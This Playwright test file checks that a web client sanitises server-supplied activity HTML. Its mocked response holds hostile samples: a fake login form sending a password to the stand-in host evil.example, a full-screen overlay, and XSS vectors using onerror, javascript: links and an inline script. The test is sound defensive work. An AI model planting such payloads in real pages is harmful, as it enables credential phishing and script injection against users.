import { expect, test } from './support/test'

// The upstream's HTML reaches the page as is in proxy mode; here the answer is replaced in the
// browser the same way, so the client's own sanitising is what is tested, in Chromium.
test('activity HTML from the server cannot draw a login form or an overlay', async ({ page }) => {
  await page.route('**/api/activities/detail?**', (route) =>
    route.fulfill({
      contentType: 'application/json',
      body: JSON.stringify({
        code: 1,
        msg: '成功',
        data: {
          id: 1,
          title: '注入测试',
          summary: '',
          category: '活动',
          cover: '/favicon.svg',
          starts_at: 1_700_000_000_000,
          ends_at: null,
          status: 'ongoing',
          images: [],
          content_html:
            '<p>活动正文</p><form action="https://evil.example/steal"><input type="password" name="pw" placeholder="请输入登录密码"><button>登录</button></form>' +
            '<div style="position:fixed;inset:0;z-index:99999;background:red" class="adm-mask" id="overlay">覆盖</div>' +
            '<img src="x" onerror="window.__xss = 1"><a href="javascript:window.__xss = 2">点我</a><script>window.__xss = 3</script>',
        },
      }),
    }),
  )
  await page.goto('/activity/detail?id=1')
  const rich = page.locator('.content__rich')
  await expect(rich).toContainText('活动正文')
  await expect(rich.locator('form, input, button, script, [style], [class], [id], [onerror]')).toHaveCount(0)
  await expect(rich.locator('a')).not.toHaveAttribute('href', /javascript:/)
  expect(await page.evaluate(() => (window as { __xss?: number }).__xss)).toBeUndefined()
})
